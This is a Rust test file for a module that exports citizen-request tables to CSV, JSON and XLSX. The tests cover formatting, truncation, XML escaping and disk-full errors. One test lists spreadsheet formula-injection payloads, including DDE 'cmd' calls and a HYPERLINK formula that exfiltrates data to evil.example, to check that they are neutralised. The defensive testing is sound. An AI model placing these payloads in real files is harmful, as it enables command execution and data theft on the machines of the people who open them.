//! What people and machines find in the files.

use super::harmless::is_formula;
use super::{grouped, open};
use base::sheet::{Cell, Column, Format, Layout};
use base::{Date, Time};
use calamine::{Data, Reader, Xlsx};
use rust_decimal::Decimal;
use std::io::{Cursor, Read, Write};
use std::sync::{Arc, Mutex};

/// A file in memory.
#[derive(Clone, Default)]
struct Memory(Arc<Mutex<Vec<u8>>>);

impl Write for Memory {
    fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(bytes);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

/// A disk without room.
struct Full;

impl Write for Full {
    fn write(&mut self, _: &[u8]) -> std::io::Result<usize> {
        Err(std::io::ErrorKind::StorageFull.into())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

fn layout(columns: usize, is_russian: bool) -> Layout {
    let column = |at: usize| Column { code: format!("c{at}"), label: format!("К{at}"), width: 12 };
    Layout {
        title: "Обращения".into(),
        columns: (0..columns).map(column).collect(),
        zone: jiff::tz::TimeZone::get("Europe/Moscow").unwrap(),
        is_russian,
        folder: std::env::temp_dir(),
    }
}

/// The bytes of a table of one row and how many texts were cut.
fn written(format: Format, cells: &[Cell], is_russian: bool) -> (Vec<u8>, i64) {
    let memory = Memory::default();
    let out = Box::new(memory.clone());
    let mut sheet = open(format, layout(cells.len(), is_russian), out).unwrap();
    sheet.row(cells).unwrap();
    let cut = sheet.end().unwrap();
    let bytes = memory.0.lock().unwrap().clone();
    (bytes, cut)
}

fn text(format: Format, cells: &[Cell], is_russian: bool) -> String {
    String::from_utf8(written(format, cells, is_russian).0).unwrap()
}

/// The cells of the second row of a workbook, and its sheet as XML.
fn workbook(cells: &[Cell]) -> (Vec<Data>, String) {
    let (bytes, _) = written(Format::Xlsx, cells, true);
    let mut book = Xlsx::new(Cursor::new(bytes.clone())).unwrap();
    let range = book.worksheet_range("Обращения").unwrap();
    let found = (0..u32::try_from(cells.len()).unwrap())
        .map(|column| range.get_value((1, column)).cloned().unwrap_or(Data::Empty));
    let found = found.collect();
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    let mut xml = String::new();
    let mut part = archive.by_name("xl/worksheets/sheet1.xml").unwrap();
    part.read_to_string(&mut xml).unwrap();
    (found, xml)
}

fn decimal(text: &str) -> Cell {
    Cell::Number(text.parse::<Decimal>().unwrap())
}

fn day(text: &str) -> Cell {
    Cell::Date(Date::parse(text).unwrap())
}

fn one_of_each() -> Vec<Cell> {
    vec![
        Cell::Text("Ёж; \"ночь\"\nи день".into()),
        decimal("-1234.50"),
        Cell::Int(42),
        day("2026-11-24"),
        Cell::Time(Time::parse("2026-11-24T21:30:00Z").unwrap()),
        Cell::Bool(true),
        Cell::Id(7, Some("Дороги".into())),
        Cell::Id(8, None),
        Cell::Code("post".into(), "Почта".into()),
        Cell::List(vec![Cell::Phone("+78432104233".into()), Cell::Phone("112".into())]),
        Cell::Empty,
        Cell::Minutes(1590),
        Cell::Shown("telegram:@ivan".into(), "Telegram @ivan".into()),
    ]
}

#[test]
fn csv_is_what_russian_excel_opens() {
    let found = text(Format::Csv, &one_of_each(), true);
    let expected = "\u{feff}К0;К1;К2;К3;К4;К5;К6;К7;К8;К9;К10;К11;К12\r\n\
        \"Ёж; \"\"ночь\"\"\nи день\";-1234,50;42;24.11.2026;25.11.2026 00:30;да;Дороги;№ 8;Почта;\
        +7 843 210-42-33, 112;;26:30;Telegram @ivan\r\n";
    assert_eq!(found, expected);
    let english = text(Format::Csv, &one_of_each(), false);
    assert!(english.contains(";-1234.50;42;2026-11-24;2026-11-25 00:30;yes;"), "{english}");
}

#[test]
fn json_has_names_beside_ids_and_values_as_the_api_writes_them() {
    let found = text(Format::Json, &one_of_each(), true);
    let json: serde_json::Value = serde_json::from_str(&found).unwrap();
    let expected = serde_json::json!([{
        "c0": "Ёж; \"ночь\"\nи день", "c1": "-1234.50", "c2": 42, "c3": "2026-11-24",
        "c4": "2026-11-24T21:30:00Z", "c5": true, "c6": {"id": 7, "name": "Дороги"},
        "c7": {"id": 8, "name": null}, "c8": {"code": "post", "name": "Почта"},
        "c9": ["+78432104233", "112"], "c10": null, "c11": 1590, "c12": "telegram:@ivan",
    }]);
    assert_eq!(json, expected);
    let memory = Memory::default();
    open(Format::Json, layout(1, true), Box::new(memory.clone())).unwrap().end().unwrap();
    assert_eq!(memory.0.lock().unwrap().as_slice(), b"[\n]\n");
}

#[test]
fn a_workbook_has_numbers_and_days_as_such_and_a_heading_that_stays() {
    let (found, xml) = workbook(&one_of_each());
    assert_eq!(found[0], Data::String("Ёж; \"ночь\"\nи день".into()));
    assert_eq!(found[1], Data::Float(-1234.5));
    assert_eq!(found[2], Data::Float(42.0));
    let serials: Vec<f64> = found[3..5]
        .iter()
        .map(|cell| match cell {
            Data::DateTime(moment) => moment.as_f64(),
            other => panic!("no day: {other:?}"),
        })
        .collect();
    // 24 November 2026 is day 46350 of Excel; half past midnight of the next day in Moscow.
    assert_eq!(serials[0], 46350.0);
    assert!((serials[1] - 46351.0 - 30.0 / 1440.0).abs() < 1e-9, "{serials:?}");
    let texts = ["да", "Дороги", "№ 8", "Почта", "+7 843 210-42-33, 112"];
    for (cell, expected) in found[5..10].iter().zip(texts) {
        assert_eq!(cell, &Data::String(expected.into()));
    }
    assert_eq!(found[10], Data::Empty);
    // Calamine gives lengths of time as days.
    assert!(
        matches!(&found[11], Data::DateTime(length) if (length.as_f64() - 1590.0 / 1440.0).abs() < 1e-9)
    );
    assert_eq!(found[12], Data::String("Telegram @ivan".into()));
    assert!(xml.contains("state=\"frozen\"") && xml.contains("<cols>"), "{xml}");
}

#[test]
fn nothing_is_calculated_by_whoever_opens_a_file() {
    let evil = [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|'x'!A0",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1+1",
        "=HYPERLINK(\"http://evil.example/?\"&A1)",
        "+",
        "-",
        "+7 843 210-42-33=1",
        "-1-2",
        "+79000000000A1",
    ];
    let harmless =
        ["Дом = 5", "-5", "-5,25", "+5", "+7 843 210-42-33", "+78432104233, 112", "a@b", ""];
    for text in evil {
        assert!(is_formula(text), "{text:?}");
    }
    for text in harmless {
        assert!(!is_formula(text), "{text:?}");
    }
    for one in evil {
        let cells = [Cell::Text(one.into()), Cell::Id(1, Some(one.into()))];
        let csv = text(Format::Csv, &cells, true);
        let mut lines = ::csv::ReaderBuilder::new().delimiter(b';').from_reader(csv.as_bytes());
        for cell in lines.records().next().unwrap().unwrap().iter() {
            assert!(cell.starts_with('\''), "{cell:?}");
        }
        let (found, xml) = workbook(&cells);
        assert!(!xml.contains("<f>") && !xml.contains("hyperlink"), "{xml}");
        assert!(found.iter().all(|cell| matches!(cell, Data::String(_))), "{found:?}");
    }
    // A heading comes from people as well.
    let mut layout = layout(1, true);
    layout.columns[0].label = "=1+1".into();
    let memory = Memory::default();
    open(Format::Csv, layout, Box::new(memory.clone())).unwrap().end().unwrap();
    assert!(memory.0.lock().unwrap().ends_with("'=1+1\r\n".as_bytes()));
}

#[test]
fn no_digit_is_lost() {
    let long = ["0.1", "12345678901234.5", "12345678901234567890.12", "-0.0000000000000001234"];
    let cells: Vec<Cell> = long.iter().map(|text| decimal(text)).collect();
    let (found, _) = workbook(&cells);
    assert_eq!(found[0], Data::Float(0.1));
    assert_eq!(found[1], Data::Float(12_345_678_901_234.5));
    // Excel keeps fifteen digits: a longer number is a text there.
    assert_eq!(found[2], Data::String("12345678901234567890,12".into()));
    assert_eq!(found[3], Data::Float(-0.000_000_000_000_000_123_4));
    let csv = text(Format::Csv, &cells, true);
    assert!(csv.contains("12345678901234567890,12"), "{csv}");
    let (found, _) = workbook(&[Cell::Int(i64::MAX), day("1812-09-07")]);
    assert_eq!(found[0], Data::String("9223372036854775807".into()));
    assert_eq!(found[1], Data::String("07.09.1812".into()), "Excel has no days before 1900");
}

#[test]
fn a_text_longer_than_a_cell_is_cut_and_counted() {
    let long = "я".repeat(40_000);
    let (bytes, cut) = written(Format::Xlsx, &[Cell::Text(long.clone())], true);
    assert_eq!(cut, 1);
    let mut book = Xlsx::new(Cursor::new(bytes)).unwrap();
    let range = book.worksheet_range("Обращения").unwrap();
    let found = range.get_value((1, 0)).unwrap().to_string();
    assert_eq!(found.chars().count(), 32_767);
    assert!(found.ends_with('…'));
    let (bytes, cut) = written(Format::Csv, &[Cell::Text(long)], true);
    assert_eq!((cut, bytes.len() > 80_000), (0, true));
}

#[test]
fn signs_that_xml_forbids_come_back() {
    let strange = "a\u{1}b & <c> _x0041_ \u{b}";
    let (found, _) = workbook(&[Cell::Text(strange.into())]);
    assert_eq!(found[0], Data::String(strange.into()));
}

#[test]
fn any_title_names_a_sheet() {
    for title in ["", "'", "A/B [c]: *?\\", "History", &"очень длинное название ".repeat(9)]
    {
        let mut layout = layout(1, true);
        layout.title = title.into();
        let sheet = open(Format::Xlsx, layout, Box::new(Memory::default())).unwrap();
        sheet.end().unwrap();
    }
}

#[test]
fn a_full_disk_is_said() {
    for format in [Format::Csv, Format::Json, Format::Xlsx] {
        let sheet = open(format, layout(1, true), Box::new(Full)).unwrap();
        let problem = sheet.end().unwrap_err();
        assert_eq!(problem.code(), base::Code::StoreFull, "{format:?}: {problem}");
    }
}

#[test]
fn phones_are_grouped_as_on_the_screens() {
    assert_eq!(grouped("+78432104233"), "+7 843 210-42-33");
    assert_eq!(grouped("+375291234567"), "+375 291 234 567");
    assert_eq!(grouped("112"), "112");
    assert_eq!(grouped("+7843"), "+7843");
}
